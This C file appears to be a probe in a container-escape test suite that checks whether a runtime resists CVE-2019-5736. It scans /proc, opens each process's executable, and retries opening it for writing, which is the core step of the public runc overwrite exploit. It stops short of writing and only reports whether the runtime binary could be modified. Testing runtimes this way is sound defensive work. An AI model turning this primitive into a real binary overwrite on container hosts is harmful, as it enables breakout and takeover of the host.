/* CVE-2019-5736: overwrite the runtime's binary through /proc/PID/exe.
 * The container waits while the runner execs into it (`moat exec ID
 * /escape/trigger-5736`, a script whose interpreter is #!/proc/self/exe, so
 * the runtime re-runs its own binary inside the container, as in the public
 * exploit).  Every process that appears and is not this program has its exe
 * opened O_PATH, then reopened for writing through /proc/self/fd, retrying
 * while the kernel says ETXTBSY.  Nothing is ever written: a writable fd on a
 * binary that is not a write-sealed copy is the escape.
 * Args: SECONDS (how long to watch at most; SIGUSR1 ends it early). */
#include "escape.h"

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_usr1(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Distinct outcomes and how many processes met each. */
static struct {
	char what[400];
	int n;
	int first, last;
} seen[32];
static int n_seen;

static void note(int pid, const char *fmt, ...)
{
	char what[400];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(what, sizeof(what), fmt, ap);
	va_end(ap);
	for (int i = 0; i < n_seen; i++)
		if (!strcmp(seen[i].what, what)) {
			seen[i].n++;
			seen[i].last = pid;
			return;
		}
	if (n_seen < 32) {
		snprintf(seen[n_seen].what, sizeof(seen[n_seen].what), "%s", what);
		seen[n_seen].n = 1;
		seen[n_seen].first = seen[n_seen].last = pid;
		n_seen++;
	}
}

ATTEMPT(cve_2019_5736)
{
	double secs = argc > 0 ? atof(argv[0]) : 5;
	signal(SIGUSR1, on_usr1);
	char self[PATH_MAX] = "";
	ssize_t sl = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (sl > 0)
		self[sl] = '\0';
	static int tried[4096];
	int n_tried = 0;
	double end = now() + secs;
	while (!stop && now() < end) {
		DIR *d = opendir("/proc");
		if (!d)
			blocked("opendir /proc: %s", en(errno));
		struct dirent *de;
		while ((de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			bool done = false;
			for (int i = 0; i < n_tried; i++)
				done |= tried[i] == pid;
			if (done)
				continue;
			char path[64], link[PATH_MAX] = "?";
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				if (errno != ENOENT && n_tried < 4096) {
					tried[n_tried++] = pid;
					note(pid, "/proc/PID/exe: %s", en(errno));
				}
				continue;
			}
			char fdpath[64];
			snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
			ssize_t ll = readlink(fdpath, link, sizeof(link) - 1);
			if (ll > 0)
				link[ll] = '\0';
			if (n_tried < 4096)
				tried[n_tried++] = pid;
			if (!strcmp(link, self)) {
				close(fd);
				continue; /* a copy of this program, not the runtime */
			}
			int w = -1;
			for (int i = 0; i < 4000; i++) {
				w = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
				if (w >= 0 || errno != ETXTBSY)
					break;
				usleep(250);
			}
			int err = errno;
			if (w >= 0) {
				int seals = fcntl(w, F_GET_SEALS);
				close(w);
				if (seals < 0 || !(seals & F_SEAL_WRITE))
					escaped("opened the runtime binary %s (exe of pid %d) for writing", link, pid);
				note(pid, "exe %s is a write-sealed copy (seals 0x%x): writes refused", link, seals);
			} else {
				note(pid, "exe %s: open for writing: %s", link, en(err));
			}
			close(fd);
		}
		closedir(d);
		usleep(200);
	}
	if (!n_seen)
		blocked("no process of the runtime was visible while the runner exec'd into the container");
	struct ev e = {0};
	for (int i = 0; i < n_seen; i++)
		ev_add(&e, "%d process%s (pid %d..%d): %s", seen[i].n, seen[i].n == 1 ? "" : "es", seen[i].first,
		       seen[i].last, seen[i].what);
	blocked("%s", e.s);
}
